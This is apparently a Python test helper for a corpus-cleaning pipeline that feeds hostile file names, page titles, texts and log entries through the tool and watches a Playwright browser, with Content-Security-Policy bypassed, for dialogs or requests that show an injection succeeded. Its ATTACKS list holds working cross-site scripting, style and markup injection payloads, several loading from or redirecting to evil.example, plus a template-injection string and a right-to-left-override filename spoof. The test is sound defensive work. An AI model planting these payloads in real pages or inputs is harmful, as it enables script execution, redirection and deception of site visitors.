"""Inputs whose every name and text attacks the pages that show it, and a browser that notices when one succeeds."""

import json
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from pathlib import Path

from playwright.sync_api import Browser, BrowserContext, Dialog

from tests.deciding import write_log
from tests.runs import OTHER, STORY, distinct, write_inputs
from winnow.corpus.decisions.events import Event
from winnow.corpus.decisions.log import NAME
from winnow.corpus.decisions.snapshot import take_snapshot
from winnow.corpus.settings import Settings
from winnow.pipeline.run import clean_corpus
from winnow.pipeline.workers.isolation import clean_here

# Each opens a dialog or asks a foreign server if a page takes it for markup, an attribute, a link or a style.
ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" style="background:url(http://evil.example)',
    "' autofocus onfocus='alert(1)",
    "javascript:alert(1)",
    "--><style>*{background:url(http://evil.example)}</style><link rel=stylesheet href=http://evil.example>",
    "</title></style></textarea></svg><script src=http://evil.example></script>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'><base href=http://evil.example>",
    "1;background:url(http://evil.example);x:expression(alert(1))",
    "{{ 7 * 7 }}{% raw %}${7*7}",
    "invoice\u202efdp.exe",  # a browser shows "invoiceexe.pdf"
)


def file_name(attack: str) -> str:
    """An attack as the name of a file, which cannot hold a slash."""
    return attack.replace("/", "∕")


def attack_files() -> Iterator[tuple[str, str]]:
    """For each attack a folder with a text, a page of a site, and a file that nobody can read."""
    for number, attack in enumerate(ATTACKS):
        name = file_name(attack)
        text = distinct(f"{STORY} “{attack}”, the chair said.\n\n{OTHER}", number)
        yield f"{name}/{name}.txt", f"ADVERTISEMENT\n\n{text}\n\nADVERTISEMENT\n\nBy {attack}\n"
        page = f"<title>{attack}</title><article><p>{attack} {distinct(STORY, number + 99)}</p></article>"
        record = {"html": page, "title": attack, "url": f"https://s{number}.example/{attack}"}
        yield f"{name}/page.jsonl", json.dumps(record)
        yield f"{name}/{name}.html", ""


def decisions_of(number: int, attack: str) -> Iterator[Event]:
    """A decision on a site of the run, one on a source that it lacks, and one on a text that no document has."""
    when = datetime.now(UTC).isoformat()
    for source in (f"s{number}.example", attack):
        yield Event("rate_source", attack, when, attack, source, label="reliable")
    yield Event("remove_span", attack, when, attack, attack, place=attack, kind="promo", text=attack)


def run_attacks(folder: Path) -> None:
    """Clean `attack_files` with rating lists and decisions whose names and reasons are attacks as well."""
    lists = [folder / f"{file_name(attack)}.csv" for attack in ATTACKS]
    for number, path in enumerate(lists):
        path.write_text(f"domain,rating\ns{number}.example,mixed\n", encoding="utf8")
    write_log(folder, *(e for number, attack in enumerate(ATTACKS) for e in decisions_of(number, attack)))
    snapshot = take_snapshot(folder / NAME, datetime.now(UTC))
    inputs = Path(write_inputs(folder, dict(attack_files())))
    clean_corpus(
        sorted(map(str, inputs.iterdir())),  # each gives a source its name
        folder / "clean",
        Settings(ratings=tuple(map(str, lists)), decisions=snapshot),
        clean=clean_here,
        tick=lambda number: None,
    )


@contextmanager
def unprotected(browser: Browser) -> Iterator[tuple[BrowserContext, list[str]]]:
    """A browser context that ignores Content-Security-Policy, and what happens in it: dialogs, addresses asked."""
    context, happenings = browser.new_context(bypass_csp=True), list[str]()

    def note(dialog: Dialog) -> None:
        happenings.append(f"dialog {dialog.message}")
        dialog.dismiss()

    context.on("dialog", note)
    context.on("request", lambda request: happenings.append(request.url))
    yield context, happenings
    context.close()
